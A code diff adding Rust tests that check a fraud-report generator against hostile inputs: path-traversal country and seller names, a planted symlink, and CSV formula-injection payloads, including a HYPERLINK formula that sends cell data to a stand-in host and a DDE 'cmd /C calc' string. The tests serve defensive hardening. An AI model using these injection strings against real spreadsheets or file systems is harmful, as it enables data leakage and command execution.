@@ -3,6 +3,11 @@
 //!   filters by country; the manifest's hashes verify; a second run is byte-identical; the STIX
 //!   bundles pass the independent `stix2` check.
 //! - `html_renders_with_charts_in_chromium`: headless Chromium's screenshot shows the charts.
+//! - `hostile_keys_stay_inside_out_and_never_collide`: countries `..` and `../../etc`, sellers
+//!   `a/b` vs `a_b` and `AB` vs `ab`: every file under `--out`, none overwritten; a TLP:RED report
+//!   is 0700/0600.
+//! - `a_link_out_of_the_folder_is_refused`: a symbolic link planted in `--out` is not followed.
+//! - `csv_cells_are_neutralised_and_parse_back`: a `=HYPERLINK(...)` seller name comes out as text.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -129,6 +134,148 @@ fn files(dir: &Path) -> BTreeMap<String, Vec<u8>> {
         }
     }
     out
+}
+
+const HYPERLINK: &str = "=HYPERLINK(\"http://x/?\"&A1,\"x\")";
+
+/// A store whose sellers have hostile ids, countries and names.
+async fn hostile_store(dir: &Path) -> SqliteStore {
+    let g = &["fake_giveaway"][..];
+    let mut rows = vec![
+        row("shopee", ("a/b", "..", true), "h1", 0.9, g, day(11, 2)),
+        row("shopee", ("a_b", "..", true), "h2", 0.9, g, day(11, 2)),
+        row(
+            "shopee",
+            ("../../x", "../../etc", true),
+            "h3",
+            0.9,
+            g,
+            day(11, 3),
+        ),
+        row("shopee", ("AB", "CN", true), "h4", 0.9, g, day(11, 4)),
+        row("shopee", ("ab", "CN", true), "h5", 0.9, g, day(11, 4)),
+        row("shopee", (".", "/", true), "h6", 0.9, g, day(11, 5)),
+    ];
+    if let Some(s) = rows[3].listing.seller.as_mut() {
+        s.name = Some(HYPERLINK.into());
+    }
+    rows[3].listing.title = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+    let store = SqliteStore::open(&dir.join("soi.db")).unwrap();
+    store.put_scored(rows).await.unwrap();
+    store
+}
+
+fn red() -> ReportParams {
+    ReportParams {
+        tlp: Tlp::Red,
+        ..params(None)
+    }
+}
+
+#[tokio::test]
+async fn hostile_keys_stay_inside_out_and_never_collide() {
+    let tmp = tempfile::tempdir().unwrap();
+    let store = hostile_store(tmp.path()).await;
+    let base = tmp.path().join("deep/er");
+    let out = base.join("out");
+    let sum = cross_border(&store, &red(), &out, &|_| {}).await.unwrap();
+
+    let all = files(&out);
+    assert_eq!(
+        all.len(),
+        sum.files,
+        "no file overwrote another: {:?}",
+        all.keys()
+    );
+    let lower: std::collections::BTreeSet<String> = all.keys().map(|k| k.to_lowercase()).collect();
+    assert_eq!(
+        lower.len(),
+        all.len(),
+        "case-insensitive clash: {:?}",
+        all.keys()
+    );
+    let dossiers = all.keys().filter(|k| k.contains("/dossiers/")).count();
+    assert_eq!(
+        dossiers,
+        2 * 6,
+        "one html and one json per seller: {:?}",
+        all.keys()
+    );
+    let beside: Vec<_> = std::fs::read_dir(&base)
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(beside, ["out"], "nothing written beside --out");
+    assert!(!tmp.path().join("etc").exists() && !tmp.path().join("deep/etc").exists());
+    let m = json(out.join("manifest.json"));
+    for f in m["files"].as_array().unwrap() {
+        let p = f["path"].as_str().unwrap();
+        assert!(all.contains_key(p), "manifest names {p}");
+    }
+    let index = String::from_utf8(all["index.html"].clone()).unwrap();
+    for c in &sum.countries {
+        assert!(index.contains(&format!(
+            "{}/report.html",
+            soi_report::names::file_name(&c.country)
+        )));
+    }
+
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode(&out), 0o700);
+        for rel in all.keys() {
+            let p = out.join(rel);
+            assert_eq!(mode(&p), 0o600, "{rel}");
+            assert_eq!(mode(p.parent().unwrap()), 0o700, "{rel}");
+        }
+    }
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn a_link_out_of_the_folder_is_refused() {
+    let tmp = tempfile::tempdir().unwrap();
+    let store = known_store(tmp.path()).await;
+    let out = tmp.path().join("out");
+    let elsewhere = tmp.path().join("elsewhere");
+    std::fs::create_dir_all(&out).unwrap();
+    std::fs::create_dir_all(&elsewhere).unwrap();
+    std::os::unix::fs::symlink(&elsewhere, out.join("CN")).unwrap();
+    let err = cross_border(&store, &params(None), &out, &|_| {})
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(err, soi_report::ReportError::Escape { .. }),
+        "{err}"
+    );
+    assert!(err.to_string().contains("CN"), "{err}");
+    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
+}
+
+#[tokio::test]
+async fn csv_cells_are_neutralised_and_parse_back() {
+    let tmp = tempfile::tempdir().unwrap();
+    let store = hostile_store(tmp.path()).await;
+    let out = tmp.path().join("out");
+    cross_border(&store, &params(Some("CN")), &out, &|_| {})
+        .await
+        .unwrap();
+    let mut r = csv::Reader::from_path(out.join("CN/sellers.csv")).unwrap();
+    let names: Vec<String> = r.records().map(|x| x.unwrap()[3].to_string()).collect();
+    assert!(names.contains(&format!("'{HYPERLINK}")), "{names:?}");
+    let mut r = csv::Reader::from_path(out.join("CN/listings.csv")).unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    assert!(
+        rows.iter().any(|x| &x[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        "{rows:?}"
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell}");
+        }
+    }
 }
 
 fn json(path: PathBuf) -> serde_json::Value {
